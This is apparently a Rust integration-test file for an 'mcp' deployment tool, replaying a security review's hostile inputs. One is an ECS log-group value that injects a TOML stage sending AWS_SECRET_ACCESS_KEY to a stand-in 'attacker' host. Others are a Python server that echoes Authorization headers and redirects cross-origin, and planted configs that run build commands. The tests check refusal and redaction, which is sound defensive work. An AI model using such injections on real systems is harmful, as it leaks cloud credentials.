//! Hostile inputs from the review in issue 16, replayed against the testbed.

use std::collections::HashMap;

use aws_sdk_ecs::types::{
    ContainerDefinition, KeyValuePair, LaunchType, LogConfiguration, LogDriver,
};

use crate::image::{commit_all, fixture_project};
use crate::testbed::{run, unique};

/// What the review put in a task definition's awslogs group: it ends the `#`
/// comment init wrote it into and adds a stage that sends the AWS secret key
/// to the attacker as a bearer token.
const INJECTED_GROUP: &str = "/ecs/x\n[stages.production]\ndeploy = { url = \"http://attacker/mcp\", auth_token_env = \"AWS_SECRET_ACCESS_KEY\" }\n";

/// Guards issue 16 item 1: `mcp init --from-service` on a crafted live service
/// writes no `[stages.production]` (it refuses, naming the field, exit 2).
#[test]
#[ignore = "needs the testbed: tests/testbed/up.sh"]
fn init_from_a_crafted_task_definition_writes_no_foreign_table() {
    let tb = crate::testbed!();
    let name = unique("inject");
    let ecs = tb.ecs();
    tb.block_on(async {
        ecs.create_cluster()
            .cluster_name(&name)
            .send()
            .await
            .unwrap();
        let container = ContainerDefinition::builder()
            .name("mcp")
            .image(format!("{}/{name}:base", tb.var("MCP_TESTBED_REGISTRY")))
            .essential(true)
            .log_configuration(
                LogConfiguration::builder()
                    .log_driver(LogDriver::Awslogs)
                    .set_options(Some(HashMap::from([
                        ("awslogs-group".to_string(), INJECTED_GROUP.to_string()),
                        ("awslogs-region".to_string(), tb.region()),
                        ("awslogs-stream-prefix".to_string(), "ecs".to_string()),
                    ])))
                    .build()
                    .unwrap(),
            )
            .build();
        let registered = ecs
            .register_task_definition()
            .family(&name)
            .container_definitions(container)
            .cpu("256")
            .memory("512")
            .send()
            .await
            .unwrap();
        let arn = registered
            .task_definition()
            .unwrap()
            .task_definition_arn()
            .unwrap()
            .to_string();
        // No task runs: init only reads the service and its task definition.
        ecs.create_service()
            .cluster(&name)
            .service_name(&name)
            .task_definition(arn)
            .desired_count(0)
            .launch_type(LaunchType::Fargate)
            .send()
            .await
            .unwrap();
    });
    // The simulator keeps the group as given: the test is only meaningful if so.
    let live = tb.task_definition(&tb.live_task_definition(&name, &name));
    let group = live.container_definitions()[0]
        .log_configuration()
        .and_then(|l| l.options())
        .and_then(|o| o.get("awslogs-group"))
        .cloned();
    assert_eq!(group.as_deref(), Some(INJECTED_GROUP));

    let dir = tempfile::tempdir().unwrap();
    let spec = format!("{name}/{name}");
    let out = run(tb
        .mcp(dir.path())
        .args(["init", "--from-service", &spec, "-o", "json"]));
    assert_eq!(
        out.code, 2,
        "stdout:\n{}\nstderr:\n{}",
        out.stdout, out.stderr
    );
    assert!(
        out.stderr.contains("the awslogs-group option") && out.stderr.contains("control character"),
        "{}",
        out.stderr
    );
    // Shown escaped, on one line: the payload never starts a line of its own.
    assert!(
        !out.stderr
            .lines()
            .any(|l| l.starts_with("[stages.production]")),
        "{}",
        out.stderr
    );
    let path = dir.path().join("mcp.toml");
    if let Ok(text) = std::fs::read_to_string(&path) {
        assert!(!text.contains("[stages.production]"), "{text}");
    }
    assert!(!path.exists(), "nothing is written when init refuses");

    // Nothing else of the service was at fault: with the log group cleaned up
    // at its source, init writes the file.
    let clean = format!("/ecs/{name}");
    tb.block_on(async {
        let mut container = live.container_definitions()[0].clone();
        let mut options = container
            .log_configuration()
            .and_then(|l| l.options())
            .cloned()
            .unwrap_or_default();
        options.insert("awslogs-group".into(), clean.clone());
        container.log_configuration = Some(
            LogConfiguration::builder()
                .log_driver(LogDriver::Awslogs)
                .set_options(Some(options))
                .build()
                .unwrap(),
        );
        let arn = ecs
            .register_task_definition()
            .family(&name)
            .container_definitions(container)
            .cpu("256")
            .memory("512")
            .send()
            .await
            .unwrap()
            .task_definition()
            .unwrap()
            .task_definition_arn()
            .unwrap()
            .to_string();
        ecs.update_service()
            .cluster(&name)
            .service(&name)
            .task_definition(arn)
            .send()
            .await
            .unwrap();
    });
    let out = run(tb
        .mcp(dir.path())
        .args(["init", "--from-service", &spec, "-o", "json"]));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(text.contains(&format!("log group \"{clean}\"")), "{text}");
    assert!(!text.contains("[stages.production]"), "{text}");
}

/// Guards issue 16 item 3: a value moved from the live `environment` to
/// `[secrets]` leaves the plain-text list: the plan shows the removal (without
/// the value), the new revision has only the reference; and a name declared in
/// both `[env]` and `[secrets]` is refused.
#[test]
#[ignore = "needs the testbed: tests/testbed/up.sh"]
fn a_value_moved_to_secrets_leaves_the_plain_environment() {
    let tb = crate::testbed!();
    // The seeded container has GREETING=hello in `environment`.
    let seeded = tb.seed_service("plainsecret", &[]);
    let before = tb.live_task_definition(&seeded.get("cluster"), &seeded.get("service"));
    let plain = tb.task_definition(&before).container_definitions()[0]
        .environment()
        .iter()
        .find(|kv| kv.name() == Some("GREETING"))
        .and_then(KeyValuePair::value)
        .map(str::to_string);
    assert_eq!(plain.as_deref(), Some("hello"));
    let secrets = aws_sdk_secretsmanager::Client::new(&tb.sdk());
    let arn = tb.block_on(async {
        secrets
            .create_secret()
            .name(format!("/test/{}/greeting", seeded.name))
            .secret_string("hello-from-secrets-manager")
            .send()
            .await
            .unwrap()
            .arn()
            .unwrap()
            .to_string()
    });
    let config = format!(
        "\n[ecs]\ncluster = \"{}\"\nservice = \"{}\"\ncontainer = \"{}\"\n\n[deploy]\ntimeout = \"90s\"\n\n[secrets]\nGREETING = \"{arn}\"\n",
        seeded.get("cluster"),
        seeded.get("service"),
        seeded.get("container"),
    );
    let dir = fixture_project(tb, &seeded.get("repository"), &config);
    commit_all(dir.path());

    let plan = run(tb.mcp(dir.path()).args(["deploy", "--dry-run"]));
    assert_eq!(plan.code, 0, "{}", plan.stderr);
    assert!(
        plan.stdout
            .contains("~ env GREETING: removed (declared in [secrets]"),
        "{}",
        plan.stdout
    );
    assert!(
        !plan.stdout.contains("hello"),
        "the plain value is not shown: {}",
        plan.stdout
    );
    let json = run(tb
        .mcp(dir.path())
        .args(["deploy", "--dry-run", "-o", "json"]));
    assert_eq!(json.code, 0, "{}", json.stderr);
    let changes = json.json()["changes"].clone();
    assert!(
        changes
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c["field"] == "env_removed" && c["name"] == "GREETING"),
        "{changes}"
    );
    assert!(!json.stdout.contains("hello"), "{}", json.stdout);

    let deployed = run(tb.mcp(dir.path()).args(["deploy", "-o", "json"]));
    assert_eq!(deployed.code, 0, "{}", deployed.stderr);
    let live = tb.live_task_definition(&seeded.get("cluster"), &seeded.get("service"));
    assert_ne!(live, before);
    let container = tb.task_definition(&live).container_definitions()[0].clone();
    assert!(
        container
            .environment()
            .iter()
            .all(|kv| kv.name() != Some("GREETING")),
        "{:?}",
        container.environment()
    );
    assert!(
        container
            .environment()
            .iter()
            .any(|kv| kv.name() == Some("APP_ENV")),
        "other plain entries stay"
    );
    let secret = container
        .secrets()
        .iter()
        .find(|s| s.name() == "GREETING")
        .expect("the reference is in the new revision");
    assert_eq!(secret.value_from(), arn);

    // Declared twice: refused before anything is built, naming the key and the file.
    let toml = dir.path().join("mcp.toml");
    let text = std::fs::read_to_string(&toml).unwrap();
    std::fs::write(
        &toml,
        format!("{text}\n[env]\nGREETING = \"plain again\"\n"),
    )
    .unwrap();
    let refused = run(tb.mcp(dir.path()).args(["deploy", "--dry-run"]));
    assert_eq!(refused.code, 2, "{}", refused.stderr);
    assert!(
        refused.stderr.contains(&format!(
            "error: `GREETING` is declared in both [env] ({path}) and [secrets] ({path})",
            path = toml.display()
        )),
        "{}",
        refused.stderr
    );
    assert!(
        !refused.stderr.contains("plain again"),
        "{}",
        refused.stderr
    );
}

/// A small HTTP server in Python in front of (or instead of) an MCP server,
/// on loopback: `MODE PORT LOG [ARG]`. Every request is logged with whether
/// it carried an Authorization header (never the header itself).
///
/// - `echo UPSTREAM`: forwards to the MCP server at UPSTREAM, but answers
///   `tools/list` with a JSON-RPC error that starts with a foreign bearer
///   token and echoes the Authorization header so that the 300-character cut
///   of an error falls inside the token (20 of its 40 characters before it).
/// - `slash UPSTREAM`: answers `POST /mcp` with a 307 to `/mcp/` (what the
///   Python SDK 1.x does) and forwards everything else to UPSTREAM.
/// - `away URL`: answers `POST /mcp` with a 307 to URL.
/// - `record`: answers 500 to everything.
///
/// All answer `GET /healthz` with 200.
const FRONT: &str = r#"
import http.server, json, sys, urllib.error, urllib.request
mode, port, log = sys.argv[1], int(sys.argv[2]), open(sys.argv[3], "a", buffering=1)
arg = sys.argv[4] if len(sys.argv) > 4 else ""

class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def answer(self, status, body=b"", headers=()):
        self.send_response(status)
        for key, value in headers:
            self.send_header(key, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        self.handle_any()

    def do_POST(self):
        self.handle_any()

    def do_DELETE(self):
        self.handle_any()

    def handle_any(self):
        length = int(self.headers.get("Content-Length") or 0)
        data = self.rfile.read(length) if length else b""
        auth = self.headers.get("Authorization") or ""
        log.write(f"{self.command} {self.path} auth={'yes' if auth else 'no'}\n")
        if self.command == "GET" and self.path == "/healthz":
            return self.answer(200, b"ok\n")
        if self.command == "GET":
            return self.answer(405)
        if mode == "record":
            return self.answer(500, b"not here")
        if self.command == "POST" and self.path == "/mcp" and mode in ("slash", "away"):
            return self.answer(307, b"", [("Location", "/mcp/" if mode == "slash" else arg)])
        if mode == "echo" and data and json.loads(data).get("method") == "tools/list":
            # 50 characters, then lines of 63: after rmcp's `Mcp error: -32000: `
            # the 300th character falls in the middle of the fifth token.
            message = "Bearer foreign-token-7f3a " + "." * 24 + f"Authorization: {auth}\n" * 8
            body = {"jsonrpc": "2.0", "id": json.loads(data)["id"], "error": {"code": -32000, "message": message}}
            return self.answer(200, json.dumps(body).encode(), [("Content-Type", "application/json")])
        request = urllib.request.Request(arg + "/mcp", data=data or None, method=self.command)
        for key, value in self.headers.items():
            if key.lower() not in ("host", "content-length", "connection"):
                request.add_header(key, value)
        try:
            response = urllib.request.urlopen(request, timeout=10)
            status, headers, body = response.status, response.getheaders(), response.read()
        except urllib.error.HTTPError as e:
            status, headers, body = e.code, list(e.headers.items()), e.read()
        skip = ("content-length", "transfer-encoding", "connection")
        self.answer(status, body, [(k, v) for k, v in headers if k.lower() not in skip])

http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler).serve_forever()
"#;

/// The Python front, killed when the test ends.
struct Front {
    child: std::process::Child,
    port: u16,
    log: std::path::PathBuf,
    _dir: tempfile::TempDir,
}

impl Drop for Front {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Front {
    fn start(mode: &str, arg: &str) -> Front {
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let dir = tempfile::tempdir().unwrap();
        let log = dir.path().join("requests.log");
        std::fs::write(&log, "").unwrap();
        let child = std::process::Command::new("python3")
            .arg("-c")
            .arg(FRONT)
            .args([mode, &port.to_string()])
            .arg(&log)
            .arg(arg)
            .stdin(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
        while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
            assert!(
                std::time::Instant::now() < deadline,
                "python front did not listen"
            );
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        Front {
            child,
            port,
            log,
            _dir: dir,
        }
    }

    fn url(&self, path: &str) -> String {
        format!("http://127.0.0.1:{}{path}", self.port)
    }

    fn requests(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap()
    }
}

/// A project whose `[deploy]` sends the token of `PROBE_TOKEN` to `url`.
fn token_project(url: &str, extra: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("mcp.toml"),
        format!("name = \"probe\"\n\n[deploy]\nurl = \"{url}\"\nauth_token_env = \"PROBE_TOKEN\"\n{extra}"),
    )
    .unwrap();
    dir
}

fn mcp_here(dir: &std::path::Path) -> std::process::Command {
    use assert_cmd::cargo::CommandCargoExt;
    let mut cmd = std::process::Command::cargo_bin("mcp").unwrap();
    cmd.current_dir(dir);
    for (key, _) in std::env::vars() {
        if key.starts_with("MCP_") || key == "PROBE_TOKEN" {
            cmd.env_remove(key);
        }
    }
    cmd.env("NO_COLOR", "1").env("CI", "true");
    cmd
}

const PROBE_TOKEN: &str = "tok-7d1e5a9c-0b2f-4c8e-9a31-fe6d2b0c4a17";

/// No run of 6 characters of the token anywhere in what `mcp` wrote.
fn assert_no_part_of_the_token(out: &crate::testbed::Output) {
    let chars: Vec<char> = PROBE_TOKEN.chars().collect();
    for window in chars.windows(6) {
        let part: String = window.iter().collect();
        assert!(
            !out.stdout.contains(&part) && !out.stderr.contains(&part),
            "`{part}` of the token was printed:\nstdout:\n{}\nstderr:\n{}",
            out.stdout,
            out.stderr
        );
    }
}

/// Guards issue 16 item 2: a server that echoes the Authorization header in
/// an error gets no part of the token into the output or the JSON `error`,
/// whatever the cut; a foreign bearer token is redacted too.
#[test]
fn a_server_echoing_the_authorization_header_gets_no_part_of_the_token_printed() {
    let upstream = crate::check::Server::echo(Some(PROBE_TOKEN));
    let front = Front::start("echo", &upstream.url(""));
    let dir = token_project(&front.url("/mcp"), "");
    for args in [&["check", "-vv"][..], &["check", "-o", "json"][..]] {
        let out = run(mcp_here(dir.path())
            .args(args)
            .env("PROBE_TOKEN", PROBE_TOKEN));
        assert_eq!(out.code, 1, "{args:?}\n{}\n{}", out.stdout, out.stderr);
        assert_no_part_of_the_token(&out);
        assert!(!out.stdout.contains("foreign-token") && !out.stderr.contains("foreign-token"));
        if args.contains(&"json") {
            let report = out.json();
            assert_eq!(report["failed_step"], "tools/list", "{report}");
            let error = report["error"].as_str().unwrap();
            assert!(
                error.contains("Authorization: Bearer <redacted>"),
                "{error}"
            );
        }
    }
    // The front did pass the token on: the echo had it to echo.
    assert!(
        front.requests().contains("POST /mcp auth=yes"),
        "{}",
        front.requests()
    );
}

/// Guards issue 16 item 7: a 307 from `/mcp` to `/mcp/` on the same origin
/// is followed with the token (the Python SDK 1.x does this).
#[test]
fn a_redirect_on_the_same_origin_is_followed_with_the_token() {
    let upstream = crate::check::Server::echo(Some(PROBE_TOKEN));
    let front = Front::start("slash", &upstream.url(""));
    let dir = token_project(&front.url("/mcp"), "");
    let out = run(mcp_here(dir.path())
        .args(["check", "-o", "json"])
        .env("PROBE_TOKEN", PROBE_TOKEN));
    assert_eq!(
        out.code,
        0,
        "{}\n{}\n{}",
        out.stdout,
        out.stderr,
        front.requests()
    );
    let report = out.json();
    assert_eq!(report["healthy"], true);
    assert_eq!(report["tools"].as_array().unwrap().len(), 2, "{report}");
    let requests = front.requests();
    assert!(requests.contains("POST /mcp auth=yes"), "{requests}");
    assert!(requests.contains("POST /mcp/ auth=yes"), "{requests}");
    assert_no_part_of_the_token(&out);
}

/// Guards issue 16 item 7: a redirect to another origin is not followed (the
/// other server sees nothing, the token least of all), and the report says so.
#[test]
fn a_redirect_to_another_origin_is_not_followed_and_named() {
    let elsewhere = Front::start("record", "");
    let front = Front::start("away", &elsewhere.url("/mcp"));
    let dir = token_project(&front.url("/mcp"), "");
    let out = run(mcp_here(dir.path())
        .args(["check", "-o", "json"])
        .env("PROBE_TOKEN", PROBE_TOKEN));
    assert_eq!(out.code, 1, "{}\n{}", out.stdout, out.stderr);
    let report = out.json();
    assert_eq!(report["failed_step"], "initialize", "{report}");
    let error = report["error"].as_str().unwrap();
    assert!(
        error.contains(&format!(
            "the server redirected to {}, another origin: not followed",
            elsewhere.url("/mcp")
        )),
        "{error}"
    );
    assert!(
        report["hint"]
            .as_str()
            .unwrap()
            .contains("follows redirects only on the origin"),
        "{report}"
    );
    assert_eq!(elsewhere.requests(), "", "the other origin was contacted");
    assert_no_part_of_the_token(&out);
}

/// Guards issue 16 item 7: `deploy.health_path = ""` checks a server that
/// has no health endpoint, showing the step as skipped.
#[test]
fn an_empty_health_path_skips_the_health_step() {
    let upstream = crate::check::Server::echo(Some(PROBE_TOKEN));
    // Through the front, whose /healthz would answer: the log shows it was not asked.
    let front = Front::start("slash", &upstream.url(""));
    let dir = token_project(&front.url("/mcp"), "health_path = \"\"\n");
    let out = run(mcp_here(dir.path())
        .arg("check")
        .env("PROBE_TOKEN", PROBE_TOKEN));
    assert_eq!(out.code, 0, "{}\n{}", out.stdout, out.stderr);
    assert!(
        out.stdout
            .contains("skip  health           skipped: `deploy.health_path` is empty"),
        "{}",
        out.stdout
    );
    // The echo server speaks the stateless revision: no handshake.
    assert!(
        out.stdout.contains("ok    server/discover"),
        "{}",
        out.stdout
    );
    let json = run(mcp_here(dir.path())
        .args(["check", "-o", "json"])
        .env("PROBE_TOKEN", PROBE_TOKEN));
    let report = json.json();
    assert_eq!(report["healthy"], true);
    assert_eq!(report["steps"][0]["skipped"], true, "{report}");
    assert!(
        !front.requests().contains("/healthz"),
        "{}",
        front.requests()
    );
}

/// Guards issue 26 item 2: an mcp.toml found by walking up that someone else
/// could have planted (owned by another user, through a link or as the link,
/// or in a folder others may write without the sticky bit) is refused: its
/// `build.before` would run as whoever runs `mcp`. `--config` naming it is a
/// choice and reads it.
#[test]
#[ignore = "needs root: chowns a file to another uid (CI runs as root)"]
fn a_planted_config_found_by_walking_up_is_refused() {
    use std::os::unix::fs::{PermissionsExt, chown, lchown, symlink};
    const NOBODY: u32 = 65534;
    let refused = |top: &std::path::Path, what: &str| {
        let cwd = top.join("project");
        std::fs::create_dir_all(&cwd).unwrap();
        let out = run(mcp_here(&cwd).arg("config"));
        assert_eq!(
            out.code, 2,
            "{what}: not refused\n{}{}",
            out.stdout, out.stderr
        );
        assert!(
            out.stderr
                .contains(&top.join("mcp.toml").display().to_string())
                && out.stderr.contains("--config"),
            "{what}: {}",
            out.stderr
        );
        assert!(!out.stdout.contains("planted"), "{what}: {}", out.stdout);
        let out = run(mcp_here(&cwd)
            .arg("--config")
            .arg(top.join("mcp.toml"))
            .arg("config"));
        assert_eq!(out.code, 0, "{what}: --config names it\n{}", out.stderr);
        assert!(out.stdout.contains("planted"), "{what}: {}", out.stdout);
    };
    let toml = "name = \"planted\"\n[build]\nbefore = [\"id\"]\n";

    let owned = tempfile::tempdir().unwrap();
    std::fs::write(owned.path().join("mcp.toml"), toml).unwrap();
    chown(owned.path().join("mcp.toml"), Some(NOBODY), Some(NOBODY)).unwrap();
    refused(owned.path(), "a file another user owns");

    // A link of ours to a file another user owns.
    let theirs = tempfile::tempdir().unwrap();
    std::fs::write(theirs.path().join("real.toml"), toml).unwrap();
    chown(theirs.path().join("real.toml"), Some(NOBODY), Some(NOBODY)).unwrap();
    let linked = tempfile::tempdir().unwrap();
    symlink(
        theirs.path().join("real.toml"),
        linked.path().join("mcp.toml"),
    )
    .unwrap();
    refused(linked.path(), "a link to a file another user owns");

    // A link another user owns, to a file of ours.
    let link_theirs = tempfile::tempdir().unwrap();
    std::fs::write(link_theirs.path().join("real.toml"), toml).unwrap();
    symlink(
        link_theirs.path().join("real.toml"),
        link_theirs.path().join("mcp.toml"),
    )
    .unwrap();
    lchown(
        link_theirs.path().join("mcp.toml"),
        Some(NOBODY),
        Some(NOBODY),
    )
    .unwrap();
    refused(link_theirs.path(), "a link another user owns");

    // A folder anyone may write to, without the sticky bit: anyone could have
    // put the file there (or replace it).
    let open = tempfile::tempdir().unwrap();
    std::fs::write(open.path().join("mcp.toml"), toml).unwrap();
    std::fs::set_permissions(open.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
    refused(open.path(), "a world-writable folder");
    let group = tempfile::tempdir().unwrap();
    std::fs::write(group.path().join("mcp.toml"), toml).unwrap();
    chown(group.path(), None, Some(NOBODY)).unwrap();
    std::fs::set_permissions(group.path(), std::fs::Permissions::from_mode(0o770)).unwrap();
    refused(group.path(), "a folder another group may write to");

    // With the sticky bit (as /tmp), only the owner can replace it: ours is read.
    let sticky = tempfile::tempdir().unwrap();
    std::fs::write(sticky.path().join("mcp.toml"), toml).unwrap();
    std::fs::set_permissions(sticky.path(), std::fs::Permissions::from_mode(0o1777)).unwrap();
    let cwd = sticky.path().join("project");
    std::fs::create_dir_all(&cwd).unwrap();
    let out = run(mcp_here(&cwd).arg("config"));
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(out.stdout.contains("planted"), "{}", out.stdout);
}
